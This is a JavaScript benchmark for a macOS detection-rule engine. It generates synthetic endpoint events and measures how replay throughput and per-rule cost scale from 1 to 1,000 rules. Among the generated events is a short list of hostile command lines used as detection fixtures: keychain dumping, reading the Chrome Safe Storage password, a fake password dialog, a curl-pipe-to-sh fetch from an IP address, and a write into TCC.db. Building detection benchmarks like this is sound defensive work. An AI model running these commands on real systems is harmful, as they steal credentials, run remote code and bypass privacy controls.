// The rule engine at real scale: replay throughput and engine-only cost per event for 1, 5, 145 and 1,000 rules,
// beside the JSON.parse floor measured in the same run over the same lines.
//
// Rules: the 145 Elastic-style macOS rules of bench/corpus/macos-rules.mjs; 1,000 = those 145 duplicated with new
// rule ids (what the acceptance asks for), and, for comparison, 1,000 where the copies are the corpus's variants
// (other process names and paths: nothing shared between copies, closer to a SOC's own rules on top of Elastic's).
// 1 and 5 are the corpus's first rules. RuleSet compiles a query text once however many rules have it, and the
// replay pre-filter keeps identical conditions once, so the duplicated 1,000 cost about what the 145 do: the
// *_1000_variants figures are the ones where the copies share nothing.
//
// Events: REPLAY_SCALE_EVENTS (default 200,000) generated Defend-shaped macOS events (about 1.4 KB a line): 70 %
// process events of common programs (exec, fork, exit), 20 % file events, 10 % network events, and one in 500 a
// suspicious command line of the kind the rules look for.
//
// Figures (all from CPU time of this process, as the machine is shared; *_wall_* from wall time):
// - json_parse_floor_events_per_s: JSON.parse of every line (already split, in memory) and nothing else; the median
//   of its measurements (3 per round, REPLAY_SCALE_RUNS rounds, default 5).
// - replay_events_per_s_<n>: replayEvents over the file (read, split, pre-filter, parse, rules, alerts to a
//   counting sink), default options; the rule set compiled beforehand (compile_ms_<n>, wall time); the median of
//   RUNS replays.
// - replay_vs_floor_145 / _1000: the median over the rounds of each replay's rate divided by the mean of the floors
//   measured just before and just after it (see below); the targets.
// - replay_cold_events_per_s_145: the same for the 145 rules as the process's first replay (the warm-up), before V8
//   has optimized the pre-filter and the engine; the replay_* figures are taken after it.
// - engine_us_per_event_<n>: RuleSet.push alone over parsed events (a 20,000-event slice, repeated).
// - engine_ns_per_rule_per_event_<n>: engine_us_per_event_<n> * 1000 / n — the issue's measure: "seven times the
//   rules cost thirteen times the time" is this figure growing 13/7 = 1.9 times from 145 to 1,015 rules.
//   per_rule_cost_ratio_1000_vs_145 is that growth; flat means at most 1.5.
// - engine_marginal_ns_per_rule_per_event_<n>: (engine cost with n rules - with 1 rule) / (n - 1), the same without
//   the fixed per-event cost that one rule already pays; reported beside, not a target.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { loadavg, tmpdir } from "node:os";
import { join } from "node:path";
import { writeMacosRules } from "./corpus/macos-rules.mjs";
import { loadRules } from "../dist/rules/loader.js";
import { RuleSet } from "../dist/rules/ruleSet.js";
import { replayEvents } from "../dist/rules/replay.js";

const EVENTS = Number(process.env.REPLAY_SCALE_EVENTS ?? 200_000);
const ENGINE_EVENTS = Math.min(EVENTS, 20_000);
const ENGINE_SECONDS = Number(process.env.REPLAY_SCALE_ENGINE_SECONDS ?? 1.5);
const RUNS = Number(process.env.REPLAY_SCALE_RUNS ?? 5);
const tmp = mkdtempSync(join(tmpdir(), "macsensor-ruleset-scale-"));

// ---- events ------------------------------------------------------------------------------------------------
let seed = 20261207;
const rand = () => {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
};
const pick = (xs) => xs[Math.floor(rand() * xs.length)];
const hex = (n) => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join("");

const users = ["alice", "bob", "carol"];
/** [executable, args (without argv[0] name), weight] of common macOS programs. */
const programs = [
  ["/bin/zsh", ["-zsh"], 8], ["/bin/bash", ["-c", "echo $PATH"], 3], ["/bin/ls", ["-la", "/Users/USER/Documents"], 6],
  ["/usr/bin/git", ["status", "--porcelain"], 8], ["/usr/bin/git", ["fetch", "origin", "--prune"], 3], ["/usr/bin/git", ["rev-parse", "HEAD"], 5],
  ["/usr/bin/curl", ["-s", "https://api.github.com/repos/org/repo"], 2], ["/usr/sbin/sysctl", ["-n", "hw.memsize"], 3],
  ["/usr/bin/sw_vers", ["-productVersion"], 2], ["/usr/bin/osascript", ["-e", 'tell application "Music" to pause'], 1],
  ["/usr/bin/security", ["find-certificate", "-a", "-p"], 1], ["/usr/bin/xcrun", ["--sdk", "macosx", "--show-sdk-path"], 3],
  ["/usr/bin/python3", ["-m", "pip", "list"], 2], ["/opt/homebrew/bin/node", ["/Users/USER/project/node_modules/.bin/vite", "build"], 4],
  ["/usr/bin/codesign", ["-dv", "--verbose=4", "/Applications/Safari.app"], 1], ["/usr/libexec/xpcproxy", ["com.apple.mdworker.shared.0B000000-0000-0000-0000-000000000000"], 8],
  ["/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared", ["-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"], 8],
  ["/usr/bin/defaults", ["read", "com.apple.dock", "autohide"], 2], ["/bin/launchctl", ["list"], 2], ["/usr/bin/ssh", ["-o", "BatchMode=yes", "git@github.com", "git-upload-pack 'org/repo.git'"], 2],
  ["/bin/cat", ["/etc/hosts"], 2], ["/usr/bin/grep", ["-r", "TODO", "src"], 3], ["/usr/bin/sed", ["-n", "1,20p", "README.md"], 2], ["/usr/bin/find", [".", "-name", "*.swift"], 2],
  ["/usr/bin/tar", ["-xzf", "archive.tar.gz", "-C", "/Users/USER/Downloads/x"], 1], ["/bin/mkdir", ["-p", "/Users/USER/project/build"], 3], ["/bin/rm", ["-rf", "/Users/USER/project/build"], 2],
  ["/bin/cp", ["README.md", "/Users/USER/Desktop/"], 1], ["/usr/bin/open", ["-a", "Safari", "https://example.com"], 1], ["/opt/homebrew/bin/brew", ["update"], 1],
  ["/usr/bin/clang", ["-c", "main.c", "-o", "main.o"], 3], ["/usr/bin/make", ["-j8"], 2], ["/bin/ps", ["aux"], 2], ["/usr/bin/whoami", [], 2], ["/usr/bin/uname", ["-a"], 2],
  ["/usr/bin/mdfind", ["kMDItemContentType == com.apple.application-bundle"], 1], ["/usr/bin/plutil", ["-p", "Info.plist"], 1], ["/usr/bin/ditto", ["-x", "-k", "app.zip", "/Applications"], 1],
  ["/usr/sbin/system_profiler", ["SPHardwareDataType"], 1], ["/usr/bin/pgrep", ["-f", "node"], 2], ["/usr/bin/sudo", ["softwareupdate", "-l"], 1], ["/usr/bin/env", ["python3", "script.py"], 2],
  ["/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper", ["--type=utility", "--utility-sub-type=node.mojom.NodeService"], 4],
  ["/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper", ["--type=renderer", "--lang=en-US"], 4],
];
const weighted = programs.flatMap((p) => Array(p[2]).fill(p));
const parents = [["/bin/zsh", "zsh"], ["/bin/bash", "bash"], ["/sbin/launchd", "launchd"], ["/Applications/iTerm.app/Contents/MacOS/iTerm2", "iTerm2"],
  ["/Applications/Visual Studio Code.app/Contents/MacOS/Electron", "Electron"], ["/usr/libexec/xpcproxy", "xpcproxy"], ["/usr/bin/make", "make"]];
/** Command lines the rules look for (a few per thousand events). */
const suspicious = [
  ["/usr/bin/security", ["dump-keychain", "-d", "/Users/USER/Library/Keychains/login.keychain-db"]],
  ["/usr/bin/security", ["find-generic-password", "-w", "-s", "Chrome Safe Storage"]],
  ["/usr/bin/osascript", ["-e", 'display dialog "macOS needs your password" default answer "" with hidden answer']],
  ["/bin/bash", ["-c", "curl -fsSL http://203.0.113.7/x.sh | sh"]],
  ["/bin/chmod", ["+x", "/private/tmp/update"]],
  ["/usr/bin/sqlite3", ["/Users/USER/Library/Application Support/com.apple.TCC/TCC.db", "INSERT INTO access VALUES('kTCCServiceSystemPolicyAllFiles')"]],
];
const signature = (exe, name) =>
  exe.startsWith("/usr/") || exe.startsWith("/bin/") || exe.startsWith("/sbin/") || exe.startsWith("/System/")
    ? { exists: true, trusted: true, signing_id: `com.apple.${name}`, team_id: "", subject_name: "Software Signing", status: "" }
    : { exists: true, trusted: true, signing_id: `com.vendor.${name.replace(/ /g, "")}`, team_id: "ABCDE12345", subject_name: "Developer ID Application: Vendor", status: "" };
const base = (exe) => exe.slice(exe.lastIndexOf("/") + 1);

function processFields(exe, args, user, i) {
  const name = base(exe);
  const argv = [name, ...args.map((a) => a.replace("USER", user))];
  const [pexe, pname] = pick(parents);
  const pid = 1000 + Math.floor(rand() * 90000);
  return {
    pid, entity_id: hex(22), name, executable: exe, args: argv, args_count: argv.length, command_line: argv.join(" "),
    working_directory: `/Users/${user}`, code_signature: signature(exe, name),
    parent: { pid: 300 + Math.floor(rand() * 900), entity_id: `p${i % 211}${hex(10)}`, name: pname, executable: pexe, args: [pname], args_count: 1, command_line: pname, code_signature: signature(pexe, pname) },
    group_leader: { pid }, session_leader: { pid: 300 + (i % 50) }, Ext: { ancestry: [hex(22), hex(22)] },
  };
}

function envelope(i, category, type, action, dataset) {
  return {
    "@timestamp": new Date(1_796_000_000_000 + i * 5).toISOString(),
    event: { kind: "event", category: [category], type: [type], action, module: "endpoint", dataset, id: hex(20), sequence: i, created: new Date(1_796_000_000_000 + i * 5).toISOString() },
    host: { id: "5C1E4A7B-1D22-4F3B-9D0A-3F2B8E7A6C11", name: "mac-042", hostname: "Mac-042", architecture: "arm64", os: { type: "macos", name: "macOS", version: "14.6.1", full: "macOS 14.6.1", platform: "darwin", family: "darwin", kernel: "23.6.0" } },
    agent: { id: "b6f8c1d2-3e4f-4a5b-8c9d-0e1f2a3b4c5d", type: "endpoint", version: "0.1.0" },
  };
}

function makeEvent(i) {
  const user = pick(users);
  const r = rand();
  if (r < 0.7) {
    const [exe, args] = rand() < 0.002 ? pick(suspicious) : pick(weighted);
    const k = rand();
    const [type, action] = k < 0.65 ? ["start", "exec"] : k < 0.85 ? ["start", "fork"] : ["end", "exit"];
    const e = envelope(i, "process", type, action, "endpoint.events.process");
    e.process = processFields(exe, args, user, i);
    if (action === "exit") e.process.exit_code = rand() < 0.9 ? 0 : 1;
    e.user = { id: "501", name: user };
    e.group = { id: "20", name: "staff" };
    e.message = "Endpoint process event";
    e.ecs = { version: "8.10.0" };
    return e;
  }
  if (r < 0.9) {
    const [type, action] = pick([["creation", "creation"], ["change", "modification"], ["deletion", "deletion"], ["change", "rename"]]);
    const dir = pick([`/Users/${user}/Library/Caches/com.apple.Safari`, `/private/var/folders/xy/${hex(8)}/T`, `/Users/${user}/project/src`, `/Users/${user}/Documents`, "/private/tmp", `/Users/${user}/Library/Application Support/Code/User`]);
    const name = `${pick(["index", "cache", "data", "main", "notes", "settings"])}-${hex(4)}.${pick(["json", "db", "ts", "txt", "plist", "log"])}`;
    const e = envelope(i, "file", type, action, "endpoint.events.file");
    const [exe] = pick(weighted);
    e.file = { path: `${dir}/${name}`, name, extension: name.split(".").pop(), directory: dir };
    e.process = { pid: 1000 + Math.floor(rand() * 90000), entity_id: hex(22), name: base(exe), executable: exe, code_signature: signature(exe, base(exe)) };
    e.user = { id: "501", name: user };
    e.message = "Endpoint file event";
    e.ecs = { version: "8.10.0" };
    return e;
  }
  const [type, action] = pick([["start", "connection_attempted"], ["start", "connection_accepted"], ["end", "disconnect_received"]]);
  const e = envelope(i, "network", type, action, "endpoint.events.network");
  const [exe] = pick(weighted);
  e.process = { pid: 1000 + Math.floor(rand() * 90000), entity_id: hex(22), name: base(exe), executable: exe };
  e.source = { ip: "192.168.1.23", port: 49152 + Math.floor(rand() * 16000) };
  e.destination = { ip: pick(["140.82.112.3", "17.253.144.10", "192.168.1.1", "151.101.1.69", "10.0.0.8"]), port: pick([443, 443, 443, 80, 22, 53]) };
  e.network = { transport: "tcp", direction: "outgoing", type: "ipv4" };
  e.message = "Endpoint network event";
  e.ecs = { version: "8.10.0" };
  return e;
}

const lines = [];
for (let i = 0; i < EVENTS; i++) lines.push(JSON.stringify(makeEvent(i)));
const file = join(tmp, "events.ndjson");
writeFileSync(file, lines.join("\n") + "\n");
const bytes = readFileSync(file).length;

// ---- rules -------------------------------------------------------------------------------------------------
function load(dir) {
  const { rules, errors } = loadRules([dir]);
  if (errors.length) throw new Error(errors.map((e) => e.message).join("\n"));
  return rules;
}
const corpusDir = join(tmp, "rules145");
writeMacosRules(corpusDir, 145);
const rules145 = load(corpusDir);
const variantsDir = join(tmp, "rules1000v");
writeMacosRules(variantsDir, 1000);
const rules1000variants = load(variantsDir);
/** The 145 again and again, each copy with a new rule_id. */
const rules1000 = Array.from({ length: 1000 }, (_, i) => {
  const r = rules145[i % 145];
  if (i < 145) return r;
  return { ...r, metadata: { ...r.metadata, ruleId: `${r.metadata.ruleId}-copy-${Math.floor(i / 145)}` } };
});
const sets = { 1: rules145.slice(0, 1), 5: rules145.slice(0, 5), 145: rules145, 1000: rules1000, "1000_variants": rules1000variants };

// ---- measuring ---------------------------------------------------------------------------------------------
const cpu = () => {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1e6;
};
const wall = () => Number(process.hrtime.bigint()) / 1e9;

function jsonParseFloor() {
  let sink = 0;
  for (let i = 0; i < 20_000; i++) sink += JSON.parse(lines[i]).event.sequence; // warm-up
  const c0 = cpu();
  const w0 = wall();
  for (let i = 0; i < lines.length; i++) sink += JSON.parse(lines[i]).event.sequence;
  return { cpu: lines.length / (cpu() - c0), wall: lines.length / (wall() - w0), sink };
}

/** The rule set is compiled before the clock starts (compiling is reported apart, as compile_ms_<n>). */
async function replay(rules) {
  let alerts = 0;
  const sink = { write: () => void alerts++ };
  const set = new RuleSet(rules);
  const c0 = cpu();
  const w0 = wall();
  const stats = await replayEvents({ input: file, rules: set, sink });
  return { cpu: stats.events / (cpu() - c0), wall: stats.events / (wall() - w0), alerts, events: stats.events };
}

/** The engine-only measurement's events, parsed once it starts: not held in the heap while the replays run. */
let parsed = [];
/**
 * Microseconds of CPU per event for RuleSet.push alone: a fresh RuleSet per pass (no state carried over), built
 * before the pass's clock starts.
 */
function engine(rules) {
  let spent = 0;
  const pass = () => {
    const set = new RuleSet(rules);
    const c0 = cpu();
    let hits = 0;
    for (let i = 0; i < parsed.length; i++) hits += set.push(parsed[i]).length;
    spent += cpu() - c0;
    return hits;
  };
  pass();
  spent = 0;
  let events = 0;
  while (spent < ENGINE_SECONDS) {
    pass();
    events += parsed.length;
  }
  return (spent * 1e6) / events;
}

/** Milliseconds to compile the rule set (RuleSet construction), once. */
function compileMs(rules) {
  const w0 = wall();
  new RuleSet(rules);
  return Math.round((wall() - w0) * 1000);
}

// The machine is shared: its speed moves between measurements (one bench's floor runs read 109 k to 188 k
// events/s). So each targeted replay (145 and 1,000 rules) is compared with JSON.parse floors measured just before
// and just after it (their mean), RUNS times over, and the median of those paired ratios is the figure; every run
// is reported beside (*_runs). The other sets are compared with the median floor.
// Warm-up of the replay path with the 145 rules (a RuleSet of its own: the measured ones compile their own code):
// the pre-filter's and engine's code is compiled by V8 as it runs, so a first pass over 200,000 lines runs up to
// 1.5 times slower than the next (measured). The warm-up's rate is reported beside, as replay_cold_events_per_s_145.
jsonParseFloor();
const cold = await replay(sets[145]);
const result = { events: lines.length, bytes_per_line: Math.round(bytes / lines.length), runs: RUNS };
result.replay_cold_events_per_s_145 = Math.round(cold.cpu);
const TARGETED = ["145", "1000"];
const floorRuns = [];
const replayRuns = Object.fromEntries(Object.keys(sets).map((n) => [n, []]));
const pairedRatios = Object.fromEntries(TARGETED.map((n) => [n, []]));
for (let k = 0; k < RUNS; k++) {
  for (const n of Object.keys(sets)) if (!TARGETED.includes(n)) replayRuns[n].push(await replay(sets[n]));
  let before = jsonParseFloor();
  floorRuns.push(before);
  for (const n of TARGETED) {
    const r = await replay(sets[n]);
    const after = jsonParseFloor();
    floorRuns.push(after);
    replayRuns[n].push(r);
    pairedRatios[n].push(r.cpu / ((before.cpu + after.cpu) / 2));
    before = after;
  }
}
const median = (xs) => {
  const sorted = [...xs].sort((a, b) => a - b);
  const mid = sorted.length >> 1;
  return sorted.length % 2 === 1 ? sorted[mid] : (sorted[mid - 1] + sorted[mid]) / 2;
};
const replayRates = {};
for (const n of Object.keys(sets)) {
  const runs = replayRuns[n];
  replayRates[n] = { cpu: median(runs.map((r) => r.cpu)), wall: median(runs.map((r) => r.wall)) };
  result[`replay_events_per_s_${n}`] = Math.round(replayRates[n].cpu);
  result[`replay_wall_events_per_s_${n}`] = Math.round(replayRates[n].wall);
  result[`alerts_${n}`] = runs[0].alerts;
  if (runs.some((x) => x.alerts !== runs[0].alerts)) throw new Error(`replay of ${n} rules: alert counts differ between runs`);
}
result.replay_runs_events_per_s_145 = replayRuns[145].map((r) => Math.round(r.cpu));
const floor = { cpu: median(floorRuns.map((r) => r.cpu)), wall: median(floorRuns.map((r) => r.wall)) };
result.json_parse_floor_events_per_s = Math.round(floor.cpu);
result.json_parse_floor_wall_events_per_s = Math.round(floor.wall);
result.json_parse_floor_runs_events_per_s = floorRuns.map((r) => Math.round(r.cpu));
result.replay_vs_floor_145_runs = pairedRatios[145].map((x) => +x.toFixed(2));
result.replay_vs_floor_1000_runs = pairedRatios[1000].map((x) => +x.toFixed(2));

for (const [n, rules] of Object.entries(sets)) result[`compile_ms_${n}`] = compileMs(rules);
parsed = lines.slice(0, ENGINE_EVENTS).map((l) => JSON.parse(l));
const engineUs = {};
for (const [n, rules] of Object.entries(sets)) {
  engineUs[n] = engine(rules);
  result[`engine_us_per_event_${n}`] = +engineUs[n].toFixed(3);
}
const count = (n) => sets[n].length;
for (const n of Object.keys(sets)) {
  result[`engine_ns_per_rule_per_event_${n}`] = +((engineUs[n] * 1000) / count(n)).toFixed(2);
  if (count(n) > 1) result[`engine_marginal_ns_per_rule_per_event_${n}`] = +(((engineUs[n] - engineUs[1]) * 1000) / (count(n) - 1)).toFixed(2);
}
result.per_rule_cost_ratio_1000_vs_145 = +((engineUs[1000] / 1000) / (engineUs[145] / 145)).toFixed(2);
result.per_rule_cost_ratio_1000_variants_vs_145 = +((engineUs["1000_variants"] / 1000) / (engineUs[145] / 145)).toFixed(2);
result.replay_vs_floor_145 = +median(pairedRatios[145]).toFixed(2);
result.replay_vs_floor_1000 = +median(pairedRatios[1000]).toFixed(2);
result.replay_vs_floor_1000_variants = +(replayRates["1000_variants"].cpu / floor.cpu).toFixed(2);
result.load_average_1m = +loadavg()[0].toFixed(1);
result.measured_as = "events per second of CPU time of this process (*_wall_*: of wall time, shared machine)";
result.target_replay_vs_floor_145 = 1;
result.target_replay_vs_floor_1000 = 0.5;
result.target_per_rule_cost_ratio_1000_vs_145 = 1.5;
result.meets_targets =
  result.replay_vs_floor_145 >= 1 && result.replay_vs_floor_1000 >= 0.5 && result.per_rule_cost_ratio_1000_vs_145 <= 1.5;
rmSync(tmp, { recursive: true, force: true });
console.log(JSON.stringify(result));
